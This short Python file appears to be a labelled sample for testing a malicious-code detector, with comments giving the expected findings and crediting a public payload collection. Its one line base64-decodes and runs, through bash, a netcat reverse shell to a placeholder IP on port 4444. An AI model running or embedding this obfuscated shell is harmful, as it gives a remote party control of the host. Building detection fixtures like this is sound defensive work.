# expect: shell-spawn,raw-socket
# source: PayloadsAllTheThings (reverse shell)
# technique: ['bash', '-c', b64decode(...)] running a netcat reverse shell
import base64
import subprocess

subprocess.run(["bash", "-c", base64.b64decode("bmMgMjAzLjAuMTEzLjUgNDQ0NCAtZSAvYmluL3No").decode()])
